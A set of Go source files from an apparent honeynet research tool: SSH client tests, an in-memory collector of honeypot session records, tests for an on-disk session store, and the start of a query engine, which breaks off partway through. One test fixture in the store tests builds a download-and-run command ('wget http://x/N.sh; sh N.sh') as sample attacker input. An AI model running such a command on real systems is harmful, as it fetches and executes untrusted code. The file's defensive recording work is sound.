			buf := make([]byte, 256)
			for {
				n, err := s.Read(buf)
				if n > 0 {
					io.WriteString(s, "seen\n$ ")
				}
				if err != nil {
					_ = s.Exit(0)
					return
				}
			}
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go srv.Serve(ln) //nolint:errcheck
	return ln.Addr().String()
}

func TestDialRejectsBadAddress(t *testing.T) {
	_, err := Dial("127.0.0.1:1", Config{User: "root", Password: "x", Timeout: 500 * time.Millisecond})
	if err == nil {
		t.Fatal("dial to closed port must fail")
	}
}

func TestAuthFailureSurfaced(t *testing.T) {
	addr := startEcho(t)
	_, err := Dial(addr, Config{User: "root", Password: "wrong"})
	if !errors.Is(err, ErrAuthFailed) {
		t.Fatalf("err = %v, want ErrAuthFailed", err)
	}
}

func TestExecExitStatus(t *testing.T) {
	addr := startEcho(t)
	cli, err := Dial(addr, Config{User: "root", Password: "letmein"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	res, err := cli.Exec("id")
	if err != nil {
		t.Fatal(err)
	}
	if string(res.Output) != "ran:id" {
		t.Errorf("output = %q", res.Output)
	}
	if !res.HasExit || res.ExitStatus != 42 {
		t.Errorf("exit = %v/%d, want 42", res.HasExit, res.ExitStatus)
	}
}

func TestServerVersionVisible(t *testing.T) {
	addr := startEcho(t)
	cli, err := Dial(addr, Config{User: "root", Password: "letmein"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	if v := cli.ServerVersion(); !strings.HasPrefix(v, "SSH-2.0-") {
		t.Errorf("server version = %q", v)
	}
}

func TestShellReadUntilPartialOnClose(t *testing.T) {
	addr := startEcho(t)
	cli, err := Dial(addr, Config{User: "root", Password: "letmein"})
	if err != nil {
		t.Fatal(err)
	}
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.ReadUntil("$ "); err != nil {
		t.Fatal(err)
	}
	out, err := sh.Run("anything", "$ ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "seen") {
		t.Errorf("out = %q", out)
	}
	// Closing the client ends the shell; ReadUntil returns what it has.
	cli.Close()
	_, err = sh.ReadUntil("never")
	if err == nil {
		t.Error("ReadUntil after close should error")
	}
}

func TestConfigTimeoutDefault(t *testing.T) {
	c := Config{}
	if c.timeout() != 30*time.Second {
		t.Errorf("default timeout = %v", c.timeout())
	}
	c.Timeout = time.Second
	if c.timeout() != time.Second {
		t.Errorf("explicit timeout = %v", c.timeout())
	}
}
