package collector

import (
	"fmt"
	"sync"
	"testing"
	"time"

	"honeynet/internal/session"
)

func rec(id uint64, month time.Month, kind session.Kind) *session.Record {
	r := &session.Record{
		ID:       id,
		Start:    time.Date(2022, month, 10, 12, 0, 0, 0, time.UTC),
		ClientIP: fmt.Sprintf("10.0.0.%d", id%250),
		Protocol: session.ProtoSSH,
	}
	switch kind {
	case session.Scouting:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "root"}}
	case session.Intrusion:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "x", Success: true}}
	case session.CommandExec:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "x", Success: true}}
		r.Commands = []session.Command{{Raw: "uname"}}
	}
	return r
}

func TestStoreAddAndStats(t *testing.T) {
	s := NewStore()
	s.Add(rec(1, 1, session.Scanning))
	s.Add(rec(2, 1, session.Scouting))
	s.Add(rec(3, 2, session.Intrusion))
	s.Add(rec(4, 2, session.CommandExec))
	s.Add(rec(5, 3, session.CommandExec))

	if s.Len() != 5 {
		t.Fatalf("Len = %d", s.Len())
	}
	st := s.Stats()
	if st.Total != 5 || st.SSH != 5 {
		t.Errorf("stats = %+v", st)
	}
	if st.ByKind[session.CommandExec] != 2 || st.ByKind[session.Scanning] != 1 {
		t.Errorf("kind counts = %v", st.ByKind)
	}
	if st.UniqueIPs != 5 {
		t.Errorf("unique IPs = %d", st.UniqueIPs)
	}
}

func TestMonthsSorted(t *testing.T) {
	s := NewStore()
	s.Add(rec(1, 3, session.Scanning))
	s.Add(rec(2, 1, session.Scanning))
	s.Add(rec(3, 2, session.Scanning))
	s.Add(rec(4, 1, session.Scanning))
	months := s.Months()
	if len(months) != 3 {
		t.Fatalf("months = %v", months)
	}
	for i := 1; i < len(months); i++ {
		if !months[i-1].Before(months[i]) {
			t.Errorf("months unsorted: %v", months)
		}
	}
}

func TestFilter(t *testing.T) {
	s := NewStore()
	for i := uint64(1); i <= 10; i++ {
		k := session.Scanning
		if i%2 == 0 {
			k = session.CommandExec
		}
		s.Add(rec(i, 1, k))
	}
	got := s.Filter(func(r *session.Record) bool { return r.Kind() == session.CommandExec })
	if len(got) != 5 {
		t.Errorf("filtered = %d", len(got))
	}
}

func TestGroupByMonth(t *testing.T) {
	recs := []*session.Record{rec(1, 1, session.Scanning), rec(2, 1, session.Scanning), rec(3, 2, session.Scanning)}
	groups := GroupByMonth(recs)
	if len(groups) != 2 {
		t.Fatalf("groups = %d", len(groups))
	}
	jan := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	if len(groups[jan]) != 2 {
		t.Errorf("january = %d", len(groups[jan]))
	}
	months := SortedMonths(groups)
	if len(months) != 2 || !months[0].Before(months[1]) {
		t.Errorf("sorted months = %v", months)
	}
}

func TestStatsNWorkerInvariance(t *testing.T) {
	s := NewStore()
	kinds := []session.Kind{session.Scanning, session.Scouting, session.Intrusion, session.CommandExec}
	for i := uint64(0); i < 10000; i++ {
		r := rec(i, time.Month(1+i%12), kinds[i%uint64(len(kinds))])
		if i%7 == 0 {
			r.Protocol = session.ProtoTelnet
		}
		if i%5 == 0 {
			r.StateChanged = true
		}
		s.Add(r)
	}
	want := s.StatsN(1)
	for _, workers := range []int{2, 8, 33} {
		got := s.StatsN(workers)
		if got.Total != want.Total || got.SSH != want.SSH || got.Telnet != want.Telnet ||
			got.UniqueIPs != want.UniqueIPs || got.CommandExec != want.CommandExec ||
			got.StateChanged != want.StateChanged {
			t.Errorf("workers=%d: %+v != %+v", workers, got, want)
		}
		if len(got.ByKind) != len(want.ByKind) {
			t.Fatalf("workers=%d: kind map size differs", workers)
		}
		for k, v := range want.ByKind {
			if got.ByKind[k] != v {
				t.Errorf("workers=%d: ByKind[%v] = %d, want %d", workers, k, got.ByKind[k], v)
			}
		}
	}
}

func TestConcurrentAdd(t *testing.T) {
	s := NewStore()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 250; i++ {
				s.Add(rec(uint64(g*1000+i), 1, session.Scanning))
			}
		}(g)
	}
	wg.Wait()
	if s.Len() != 2000 {
		t.Errorf("Len = %d, want 2000", s.Len())
	}
}

func TestConcurrentAddAndQuery(t *testing.T) {
	// Satellite of the store PR: All, Months, Filter, and StatsN must be
	// safe to interleave with Add. Run under -race; the old contract
	// ("queries must not race with Add") made this a footgun for live
	// honeypot nodes querying their collector mid-run.
	s := NewStore()
	var wg sync.WaitGroup
	stop := make(chan struct{})
	kinds := []session.Kind{session.Scanning, session.Scouting, session.Intrusion, session.CommandExec}
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				s.Add(rec(uint64(g*10000+i), time.Month(1+i%12), kinds[i%len(kinds)]))
			}
		}(g)
	}
	for q := 0; q < 4; q++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				// Each query sees a consistent snapshot: a prefix of the
				// appends, internally stable while iterated.
				snap := s.All()
				for _, r := range snap {
					_ = r.Kind()
				}
				if st := s.StatsN(2); st.Total < len(snap) {
					t.Errorf("StatsN saw %d records after All saw %d", st.Total, len(snap))
					return
				}
				_ = s.Months()
				_ = s.Filter(func(r *session.Record) bool { return r.Kind() == session.CommandExec })
			}
		}()
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for s.Len() < 2000 {
			time.Sleep(time.Millisecond)
		}
	}()
	<-done
	close(stop)
	wg.Wait()
	if s.Len() != 2000 {
		t.Fatalf("Len = %d, want 2000", s.Len())
	}
}
