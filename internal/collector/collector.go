// Package collector is the honeynet's central session database: nodes
// forward completed session records to a collector, which indexes them
// by month for the longitudinal analyses. (Section 3.2: "the recorded
// session is forwarded to a collector and added to the honeynet
// database".)
package collector

import (
	"sort"
	"sync"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/parallel"
	"honeynet/internal/session"
)

// Store holds session records with a monthly index. All methods are
// safe for concurrent use: queries take a snapshot of the record list,
// so they observe a consistent prefix even while Add keeps appending.
type Store struct {
	mu   sync.RWMutex
	recs []*session.Record
}

// NewStore returns an empty store.
func NewStore() *Store { return &Store{} }

// Add appends a record. The store retains r; callers must not mutate
// it afterwards.
func (s *Store) Add(r *session.Record) {
	s.mu.Lock()
	s.recs = append(s.recs, r)
	s.mu.Unlock()
}

// Sink adapts the store to honeypot.Config.Sink: an in-memory append
// cannot fail, so it always returns nil.
func (s *Store) Sink(r *session.Record) error {
	s.Add(r)
	return nil
}

// Register exposes the store's size on reg:
//
//	honeynet_collector_records
func (s *Store) Register(reg *obs.Registry) {
	reg.GaugeFunc("honeynet_collector_records",
		"Session records held by the in-memory collector store.",
		func() float64 { return float64(s.Len()) })
}

// Len returns the record count.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.recs)
}

// All returns a snapshot of the records in insertion order: the
// returned slice is capacity-clamped, so concurrent Adds can never
// surface through it and every query over it sees a stable prefix of
// the store. Do not mutate the records.
func (s *Store) All() []*session.Record {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.recs[:len(s.recs):len(s.recs)]
}

// Months returns the sorted distinct months present.
func (s *Store) Months() []time.Time {
	seen := map[time.Time]bool{}
	for _, r := range s.All() {
		seen[r.Month()] = true
	}
	out := make([]time.Time, 0, len(seen))
	for m := range seen {
		out = append(out, m)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// Filter returns records satisfying pred.
func (s *Store) Filter(pred func(*session.Record) bool) []*session.Record {
	var out []*session.Record
	for _, r := range s.All() {
		if pred(r) {
			out = append(out, r)
		}
	}
	return out
}

// Stats summarizes the dataset the way section 3.3 reports it.
type Stats struct {
	Total        int
	SSH          int
	Telnet       int
	ByKind       map[session.Kind]int
	UniqueIPs    int
	CommandExec  int
	StateChanged int
}

// Stats computes dataset-level statistics.
func (s *Store) Stats() Stats {
	return s.StatsN(1)
}

// StatsN computes the same statistics as Stats using up to `workers`
// goroutines. Every tally is a count or a set-union, so the merge is
// order-invariant and the result is identical for any worker count.
func (s *Store) StatsN(workers int) Stats {
	recs := s.All()
	workers = parallel.Workers(workers)
	parts := make([]Stats, workers)
	ipSets := make([]map[string]bool, workers)
	for w := range parts {
		parts[w].ByKind = map[session.Kind]int{}
		ipSets[w] = map[string]bool{}
	}
	parallel.ForEach(len(recs), workers, 4096, func(w, lo, hi int) {
		st, ips := &parts[w], ipSets[w]
		for _, r := range recs[lo:hi] {
			st.Total++
			switch r.Protocol {
			case session.ProtoSSH:
				st.SSH++
			case session.ProtoTelnet:
				st.Telnet++
			}
			k := r.Kind()
			st.ByKind[k]++
			if k == session.CommandExec {
				st.CommandExec++
				if r.StateChanged {
					st.StateChanged++
				}
			}
			ips[r.ClientIP] = true
		}
	})
	if workers == 1 {
		parts[0].UniqueIPs = len(ipSets[0])
		return parts[0]
	}
	st := Stats{ByKind: map[session.Kind]int{}}
	ips := map[string]bool{}
	for w := range parts {
		p := &parts[w]
		st.Total += p.Total
		st.SSH += p.SSH
		st.Telnet += p.Telnet
		st.CommandExec += p.CommandExec
		st.StateChanged += p.StateChanged
		for k, v := range p.ByKind {
			st.ByKind[k] += v
		}
		for ip := range ipSets[w] {
			ips[ip] = true
		}
	}
	st.UniqueIPs = len(ips)
	return st
}

// GroupByMonth buckets records by start month.
func GroupByMonth(recs []*session.Record) map[time.Time][]*session.Record {
	out := map[time.Time][]*session.Record{}
	for _, r := range recs {
		m := r.Month()
		out[m] = append(out[m], r)
	}
	return out
}

// SortedMonths returns the sorted keys of a monthly grouping.
func SortedMonths[T any](m map[time.Time]T) []time.Time {
	out := make([]time.Time, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}
