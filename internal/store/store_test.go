package store

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"sync"
	"testing"
	"time"

	"honeynet/internal/collector"
	"honeynet/internal/session"
)

// mkRecord builds a deterministic test record. Month index selects the
// partition; i varies the content.
func mkRecord(month, i int) *session.Record {
	start := time.Date(2021, time.Month(5+month), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 97 * time.Second)
	r := &session.Record{
		ID:         uint64(month*1_000_000 + i),
		Start:      start,
		End:        start.Add(45 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("203.0.%d.%d", month, i%250),
		ClientPort: 40000 + i,
		Protocol:   session.ProtoSSH,
	}
	switch i % 4 {
	case 1:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "x", Success: false}}
	case 2:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
	case 3:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
		r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh; sh %d.sh", i, i), Known: true}}
		r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Hash: fmt.Sprintf("%064x", i)}}
		r.StateChanged = true
	}
	if i%7 == 0 {
		r.Protocol = session.ProtoTelnet
	}
	return r
}

// fill appends n records spread over `months` partitions, interleaved
// so sealing has to split batches by month.
func fill(t *testing.T, s *Store, n, months int) []*session.Record {
	t.Helper()
	recs := make([]*session.Record, 0, n)
	for i := 0; i < n; i++ {
		r := mkRecord(i%months, i)
		if err := s.Append(r); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
		recs = append(recs, r)
	}
	return recs
}

// marshal re-encodes a record the way the store does, for bit-identity
// comparisons.
func marshal(t *testing.T, r *session.Record) []byte {
	t.Helper()
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestRoundTripBitIdentical(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{BlockBytes: 2048})
	if err != nil {
		t.Fatal(err)
	}
	want := fill(t, s, 500, 3)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	got, err := s2.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("loaded %d records, want %d", len(got), len(want))
	}
	for i := range want {
		if w, g := marshal(t, want[i]), marshal(t, got[i]); !bytes.Equal(w, g) {
			t.Fatalf("record %d not bit-identical:\n want %s\n  got %s", i, w, g)
		}
	}
}

func TestRoundTripCowrieImported(t *testing.T) {
	// Records reconstructed from a Cowrie event log must survive the
	// store write→scan path bit-identically too.
	var cowrie bytes.Buffer
	var src []*session.Record
	for i := 0; i < 40; i++ {
		src = append(src, mkRecord(i%2, i))
	}
	if err := session.WriteCowrieJSONL(&cowrie, src); err != nil {
		t.Fatal(err)
	}
	imported, err := session.ReadCowrieJSONL(&cowrie)
	if err != nil {
		t.Fatal(err)
	}
	if len(imported) != len(src) {
		t.Fatalf("imported %d sessions, want %d", len(imported), len(src))
	}

	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range imported {
		if err := s.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	got, err := s2.Load(2)
	if err != nil {
		t.Fatal(err)
	}
	for i := range imported {
		if w, g := marshal(t, imported[i]), marshal(t, got[i]); !bytes.Equal(w, g) {
			t.Fatalf("cowrie-imported record %d not bit-identical after store round trip", i)
		}
	}
}

func TestSealPartitionsByMonth(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 300, 4)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	if got := s.Segments(); got != 4 {
		t.Fatalf("segments = %d, want 4 (one per month)", got)
	}
	months := s.Months()
	if len(months) != 4 {
		t.Fatalf("months = %v", months)
	}
	for i := 1; i < len(months); i++ {
		if !months[i-1].Before(months[i]) {
			t.Fatalf("months not ascending: %v", months)
		}
	}
	// Scanning one month yields exactly that month's records, in
	// append order.
	cur := s.Scan(Month(months[1]), nil)
	defer cur.Close()
	var n int
	var lastID uint64
	for cur.Next() {
		r := cur.Record()
		if !r.Month().Equal(months[1]) {
			t.Fatalf("record %d outside scanned month", r.ID)
		}
		if n > 0 && r.ID <= lastID {
			t.Fatalf("append order violated: %d after %d", r.ID, lastID)
		}
		lastID = r.ID
		n++
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	if n != 75 {
		t.Fatalf("month scan yielded %d records, want 75", n)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestScanSealedPlusTailAndFilter(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	fill(t, s, 120, 2)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	fill(t, s, 60, 2) // unsealed tail on top of sealed segments

	cur := s.Scan(TimeRange{}, func(r *session.Record) bool {
		return r.Kind() == session.CommandExec
	})
	defer cur.Close()
	var got int
	for cur.Next() {
		if cur.Record().Kind() != session.CommandExec {
			t.Fatal("filter leaked a non-exec record")
		}
		got++
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	want := 0
	for i := 0; i < 120; i++ {
		if mkRecord(i%2, i).Kind() == session.CommandExec {
			want++
		}
	}
	for i := 0; i < 60; i++ {
		if mkRecord(i%2, i).Kind() == session.CommandExec {
			want++
		}
	}
	if got != want {
		t.Fatalf("filtered scan yielded %d, want %d", got, want)
	}
}

func TestRollupMatchesInMemory(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	recs := fill(t, s, 400, 3)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	recs = append(recs, fill(t, s, 50, 3)...) // tail included in rollups

	byMonth := collector.GroupByMonth(recs)
	for m, want := range byMonth {
		ru := s.Rollup(m)
		if ru.Records != len(want) {
			t.Fatalf("%s: rollup records = %d, want %d", m.Format("2006-01"), ru.Records, len(want))
		}
		var kinds [4]int
		ssh := 0
		for _, r := range want {
			kinds[r.Kind()]++
			if r.Protocol == session.ProtoSSH {
				ssh++
			}
		}
		if ru.Kinds != kinds {
			t.Fatalf("%s: rollup kinds = %v, want %v", m.Format("2006-01"), ru.Kinds, kinds)
		}
		if ru.SSH != ssh {
			t.Fatalf("%s: rollup ssh = %d, want %d", m.Format("2006-01"), ru.SSH, ssh)
		}
	}
}

func TestStreamingStatsMatchesCollector(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{BlockBytes: 1024})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	recs := fill(t, s, 300, 3)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	mem := collector.NewStore()
	for _, r := range recs {
		mem.Add(r)
	}
	want := mem.Stats()
	got, err := s.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("streaming stats = %+v, want %+v", got, want)
	}
}

func TestScanIPBloomPruning(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	// Month 0 holds the campaign IP; months 1 and 2 never see it.
	campaign := "198.51.100.77"
	for i := 0; i < 90; i++ {
		r := mkRecord(i%3, i)
		if i%3 == 0 && i%9 == 0 {
			r.ClientIP = campaign
		}
		if err := s.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	cur := s.ScanIP(campaign, TimeRange{})
	defer cur.Close()
	var got int
	for cur.Next() {
		if cur.Record().ClientIP != campaign {
			t.Fatal("ScanIP yielded a foreign record")
		}
		got++
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	if got != 10 {
		t.Fatalf("ScanIP found %d sessions, want 10", got)
	}
	if s.bloomChecks.Load() != 3 {
		t.Fatalf("bloom checks = %d, want 3 (one per segment)", s.bloomChecks.Load())
	}
	// The two campaign-free months must be pruned (modulo Bloom false
	// positives, which the ~1% rate makes vanishingly unlikely at this
	// size).
	if s.bloomSkips.Load() != 2 {
		t.Fatalf("bloom skips = %d, want 2", s.bloomSkips.Load())
	}
}

func TestLoadDeterministicAcrossWorkers(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: 1 << 14}) // force several seals
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 800, 5)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if s2.Segments() < 5 {
		t.Fatalf("expected several segments, got %d", s2.Segments())
	}
	ref, err := s2.Load(1)
	if err != nil {
		t.Fatal(err)
	}
	for _, workers := range []int{2, 4, 8} {
		got, err := s2.Load(workers)
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != len(ref) {
			t.Fatalf("workers=%d: %d records, want %d", workers, len(got), len(ref))
		}
		for i := range ref {
			if !bytes.Equal(marshal(t, ref[i]), marshal(t, got[i])) {
				t.Fatalf("workers=%d: record %d differs from serial load", workers, i)
			}
		}
	}
}

func TestReopenAppendsContinue(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 100, 2)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s, err = Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s.Len() != 100 {
		t.Fatalf("reopened Len = %d, want 100", s.Len())
	}
	fill(t, s, 50, 2)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s, err = Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	recs, err := s.Load(2)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 150 {
		t.Fatalf("after reopen+append: %d records, want 150", len(recs))
	}
}

func TestUnsealedTailSurvivesReopen(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 40, 1)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	// Simulate a crash: no Seal, no Close.
	s.walF.Close()

	s2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if s2.Segments() != 0 {
		t.Fatalf("crash must not seal: %d segments", s2.Segments())
	}
	if s2.Len() != 40 {
		t.Fatalf("WAL replay recovered %d records, want 40", s2.Len())
	}
}

func TestStoreSoak(t *testing.T) {
	// Race-hunting soak: concurrent appenders, scanners, rollups, and
	// seals over a live store. Run under -race in CI.
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 4096})
	if err != nil {
		t.Fatal(err)
	}
	const writers, perWriter = 4, 300
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := s.Append(mkRecord(i%3, w*perWriter+i)); err != nil {
					t.Errorf("append: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Add(1)
	go func() { // periodic sealer
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
				if err := s.Seal(); err != nil {
					t.Errorf("seal: %v", err)
					return
				}
				time.Sleep(time.Millisecond)
			}
		}
	}()
	for g := 0; g < 3; g++ { // concurrent readers
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				cur := s.Scan(TimeRange{}, nil)
				for cur.Next() {
					_ = cur.Record().Kind()
				}
				if err := cur.Err(); err != nil {
					t.Errorf("scan: %v", err)
					return
				}
				cur.Close()
				for _, m := range s.Months() {
					_ = s.Rollup(m)
				}
			}
		}()
	}
	// Wait for the writers, then stop the background load.
	done := make(chan struct{})
	go func() {
		for s.appended.Load() < writers*perWriter {
			time.Sleep(time.Millisecond)
		}
		close(done)
	}()
	<-done
	close(stop)
	wg.Wait()
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if got := s2.Len(); got != writers*perWriter {
		t.Fatalf("soak store holds %d records, want %d", got, writers*perWriter)
	}
	if _, err := s2.Load(4); err != nil {
		t.Fatalf("load after soak: %v", err)
	}
}

func TestCorruptBlockDetected(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 50, 1)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	// Flip a byte in the middle of the sealed segment.
	seg := filepath.Join(dir, segFileName(0))
	data, err := os.ReadFile(seg)
	if err != nil {
		t.Fatal(err)
	}
	data[len(data)/2] ^= 0xff
	if err := os.WriteFile(seg, data, 0o644); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if _, err := s2.Load(1); err == nil {
		t.Fatal("corrupt block must fail the load, not return bad data")
	}
	cur := s2.Scan(TimeRange{}, nil)
	for cur.Next() {
	}
	if cur.Err() == nil {
		t.Fatal("corrupt block must surface through Cursor.Err")
	}
	cur.Close()
}

func TestBloom(t *testing.T) {
	b := newBloom(1000)
	for i := 0; i < 1000; i++ {
		b.Add(fmt.Sprintf("10.0.%d.%d", i/250, i%250))
	}
	for i := 0; i < 1000; i++ {
		if !b.MayContain(fmt.Sprintf("10.0.%d.%d", i/250, i%250)) {
			t.Fatalf("bloom false negative at %d", i)
		}
	}
	fp := 0
	for i := 0; i < 10000; i++ {
		if b.MayContain(fmt.Sprintf("192.168.%d.%d", i/250, i%250)) {
			fp++
		}
	}
	if fp > 300 { // ~1% expected; 3% is already alarming
		t.Fatalf("bloom false-positive rate too high: %d/10000", fp)
	}
	// Serialization round trip through JSON (the manifest path).
	data, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	b2 := &Bloom{}
	if err := json.Unmarshal(data, b2); err != nil {
		t.Fatal(err)
	}
	if !b2.MayContain("10.0.0.0") {
		t.Fatal("bloom lost members over JSON round trip")
	}
}
