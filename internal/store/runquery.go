package store

// The unified query surface: a structured Query (typed predicate tree +
// projection + aggregation) that Store, Fleet, and the hnquery planner
// all execute through one entry point, RunQuery. The executor does the
// pushdown the hand-rolled Filter API could not: time predicates prune
// via segment bounds, `ip =` conjuncts route through the Bloom filters,
// kind/protocol-only aggregates answer from sealed metadata with zero
// block reads, and projections skip decoding unused record fields.
// Scan/ScanIP/Rollup remain as thin shims over the same machinery.

import (
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"

	"honeynet/internal/session"
)

// Field names one queryable attribute of a session record.
type Field int

const (
	FieldNone Field = iota
	FieldStart
	FieldEnd
	FieldDuration
	FieldMonth
	FieldDay
	FieldID
	FieldHoneypot
	FieldHoneypotIP
	FieldIP
	FieldPort
	FieldProto
	FieldClientVer
	FieldKind
	FieldUser
	FieldPassword
	FieldLoginOK
	FieldLogins
	FieldCmd
	FieldCommands
	FieldDownloads
	FieldURI
	FieldHash
	FieldStateChanged
	FieldTimedOut
)

// fieldInfo is the static schema: name, value kind, whether the field
// yields multiple values per record (any-element predicate semantics),
// and the decoder mask bits it needs.
type fieldInfo struct {
	name  string
	kind  ValueKind
	multi bool
	mask  session.FieldMask
}

var fieldInfos = map[Field]fieldInfo{
	FieldStart:        {"start", ValTime, false, 0},
	FieldEnd:          {"end", ValTime, false, session.FEnd},
	FieldDuration:     {"duration", ValFloat, false, session.FEnd},
	FieldMonth:        {"month", ValMonth, false, 0},
	FieldDay:          {"day", ValDay, false, 0},
	FieldID:           {"id", ValInt, false, 0},
	FieldHoneypot:     {"hp", ValString, false, session.FHoneypotID},
	FieldHoneypotIP:   {"hp_ip", ValString, false, session.FHoneypotIP},
	FieldIP:           {"ip", ValString, false, session.FClientIP},
	FieldPort:         {"port", ValInt, false, 0},
	FieldProto:        {"proto", ValString, false, 0},
	FieldClientVer:    {"client_ver", ValString, false, session.FClientVersion},
	FieldKind:         {"kind", ValSessionKind, false, session.FLogins | session.FCommands},
	FieldUser:         {"user", ValString, true, session.FLogins},
	FieldPassword:     {"pass", ValString, true, session.FLogins},
	FieldLoginOK:      {"login_ok", ValBool, false, session.FLogins},
	FieldLogins:       {"logins", ValInt, false, session.FLogins},
	FieldCmd:          {"cmd", ValString, false, session.FCommands},
	FieldCommands:     {"cmds", ValInt, false, session.FCommands},
	FieldDownloads:    {"dls", ValInt, false, session.FDownloads},
